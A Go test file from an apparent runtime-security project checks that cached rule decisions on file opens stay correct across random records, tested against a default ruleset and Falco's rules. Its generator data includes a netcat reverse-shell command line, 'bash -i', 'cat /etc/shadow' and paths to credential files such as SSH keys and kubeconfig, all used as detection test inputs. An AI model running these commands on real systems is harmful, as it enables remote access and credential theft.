package record

import (
	"math/rand"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/pdata/pcommon"
	"go.opentelemetry.io/collector/pdata/plog"

	"github.com/otelsec/otelsec/internal/falcotest"
	"github.com/otelsec/otelsec/internal/ruleengine"
	"github.com/otelsec/otelsec/receiver/syscallreceiver/internal/events"
	"github.com/otelsec/otelsec/receiver/syscallreceiver/internal/kevent"
	"github.com/otelsec/otelsec/rules"
)

// What the kernel's remembered opens rest on: when a view of a file.open of an absolute path
// decides that no rule can match, reading only attributes OpenKeyed accepts, then no rule
// matches the whole record of any open with the same key (syscall, flags, mode, errno, path)
// and the same Lineage, whatever else differs (pid, command line, users, working directory,
// terminal, comm, capabilities, age). Checked on generated opens for the default ruleset and
// Falco's three files, by building those other records and evaluating the rules on them as
// the processor does.
func TestRememberedOpenDecisionsHold(t *testing.T) {
	sets := map[string]func(t *testing.T) []ruleengine.Source{
		"default": func(*testing.T) []ruleengine.Source { return rules.Default() },
		"falco": func(t *testing.T) []ruleengine.Source {
			dir := falcotest.Dir(t)
			var srcs []ruleengine.Source
			for _, f := range []string{falcotest.Stable, falcotest.Incubating, falcotest.Sandbox} {
				data, err := os.ReadFile(filepath.Join(dir, f))
				require.NoError(t, err)
				srcs = append(srcs, ruleengine.Source{Name: f, Data: data})
			}
			return srcs
		},
	}
	for name, load := range sets {
		t.Run(name, func(t *testing.T) {
			e, _, err := ruleengine.Compile(load(t), ruleengine.Options{})
			require.NoError(t, err)
			view := e.Prefilter(events.Known).NewView()
			rng := rand.New(rand.NewSource(1))
			var f Filler
			var dst []*ruleengine.Rule
			res := pcommon.NewMap()
			keyed, checked := 0, 0
			for range 20000 {
				job := genOpen(rng)
				if f.View(&job, view); view.MayMatch() {
					continue
				}
				failed := job.Ev.Errno() != 0
				var read []string
				if !view.DecidedBy(func(attr string) bool { read = append(read, attr); return OpenKeyed(attr, failed) }) {
					continue
				}
				keyed++
				lineage := string(Lineage(nil, &job))
				for range 4 {
					other := genOpen(rng)
					sameKey(&other, &job)
					require.Equal(t, lineage, string(Lineage(nil, &other)))
					lr := plog.NewLogRecord()
					f.Fill(&other, lr)
					if m := e.Match(res, lr, dst[:0]); len(m) > 0 {
						t.Fatalf("rule %q matches %v, an open with the key and lineage of one decided from them alone (reading %v)",
							m[0].Name, lr.Attributes().AsRaw(), read)
					}
					checked++
				}
			}
			t.Logf("%d decisions from key and lineage alone, %d records with their key checked", keyed, checked)
			// The default ruleset's decisions on opens mostly read key and lineage alone; Falco's
			// read the user, the command line or the parent's comm, and are never given to the
			// kernel (none is, here): what its subtest guards is that none given is wrong.
			if name == "default" {
				require.Greater(t, keyed, 1000, "too few decisions to check")
			}
		})
	}
}

var (
	genPaths = []string{"/etc/shadow", "/etc/passwd", "/etc/sudoers", "/etc/ld.so.preload", "/root/.ssh/id_rsa",
		"/root/.ssh/authorized_keys", "/home/alice/.bash_history", "/usr/include/stdio.h", "/usr/lib/x86_64-linux-gnu/libc.so.6",
		"/bin/ls", "/usr/bin/python3", "/var/log/auth.log", "/proc/self/mem", "/dev/mem", "/tmp/x", "/var/www/html/index.html",
		"/etc/kubernetes/admin.conf", "/var/run/docker.sock", "/etc/pam.d/sshd", "/boot/vmlinuz", "/lib/modules/x.ko"}
	genExes = []string{"/usr/bin/cat", "/usr/bin/bash", "/usr/sbin/sshd", "/usr/bin/apt", "/usr/bin/dpkg", "/usr/bin/gcc",
		"/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "/usr/bin/python3", "/usr/sbin/nginx", "/usr/bin/sudo", "/usr/bin/vi",
		"/tmp/evil", "/usr/bin/curl", "/usr/bin/docker", "/usr/sbin/runc", "/usr/bin/make"}
	genFlags  = []uint64{0, 1, 2, 0o101, 0o1101, 0o2000000, 0o102, 0o100 | 0o200}
	genErrnos = []int64{3, 4, -2, -13, -1, -17}
	genCmds   = []string{"", "cat /etc/shadow", "bash -i", "nc -e /bin/sh 1.2.3.4 4444", "python3 -c 'import pty'", "make -j2"}
	genCwds   = []string{"", "/", "/root", "/tmp", "/home/alice"}
	genCont   = []string{"", "", "0123456789ab"}
)

func pick[T any](rng *rand.Rand, xs []T) T { return xs[rng.Intn(len(xs))] }

// genOpen is a file.open of an absolute path by a process with a random lineage and a random
// everything else.
func genOpen(rng *rand.Rand) Job {
	ev := kevent.Event{Kind: kevent.KindFileOpen, Syscall: pick(rng, []uint16{2, 257, 437}), Ret: pick(rng, genErrnos),
		BootNs: uint64(rng.Int63n(1e12)), PID: uint32(rng.Intn(60000) + 2), TID: uint32(rng.Intn(60000) + 2),
		PPID: uint32(rng.Intn(60000) + 2), UID: uint32(pick(rng, []int{0, 0, 1000, 33})), EUID: uint32(pick(rng, []int{0, 1000, 33})),
		TTY: rng.Intn(2) == 0, LoginUID: uint32(pick(rng, []int{0, 1000, int(kevent.LoginUIDUnset)})),
		ThreadCapEffective: uint64(pick(rng, []int{0, 1 << 21, -1})),
		Path:               kevent.Str{B: []byte(pick(rng, genPaths))}, Flags: pick(rng, genFlags), Mode: uint32(pick(rng, []int{0, 0o644, 0o600}))}
	copy(ev.Comm[:], pick(rng, []string{"cat", "bash", "sshd", "kworker/0:1", "evil"}))
	exe := pick(rng, genExes)
	job := Job{Ev: ev, ExePath: exe, ExeName: filepath.Base(exe), CmdLine: pick(rng, genCmds), Cwd: pick(rng, genCwds),
		ContainerID: pick(rng, genCont), UserName: pick(rng, []string{"", "root", "alice", "www-data"}),
		StartBootNs: rng.Int63n(1e12)}
	if rng.Intn(8) != 0 {
		parent := pick(rng, genExes)
		job.HasParent, job.ParentExePath, job.ParentExeName = true, parent, filepath.Base(parent)
		job.ParentCmdLine = pick(rng, genCmds)
		job.ParentComm = pick(rng, []string{"", "bash", "sh"})
		job.Ancestors[0] = job.ParentExeName
		job.NumAncestors = 1
		for job.NumAncestors < 4 && rng.Intn(2) == 0 {
			job.Ancestors[job.NumAncestors] = filepath.Base(pick(rng, genExes))
			job.NumAncestors++
		}
	}
	return job
}

// sameKey gives other the key of job's open and job's lineage values.
func sameKey(other, job *Job) {
	ev := &other.Ev
	ev.Syscall, ev.Flags, ev.Mode, ev.Path = job.Ev.Syscall, job.Ev.Flags, job.Ev.Mode, job.Ev.Path
	if job.Ev.Errno() != 0 {
		ev.Ret = job.Ev.Ret
	} else if ev.Errno() != 0 {
		ev.Ret = 5 // another descriptor
	}
	other.ExePath, other.ExeName, other.ContainerID = job.ExePath, job.ExeName, job.ContainerID
	other.HasParent, other.ParentExePath, other.ParentExeName = job.HasParent, job.ParentExePath, job.ParentExeName
	other.Ancestors, other.NumAncestors = job.Ancestors, job.NumAncestors
}
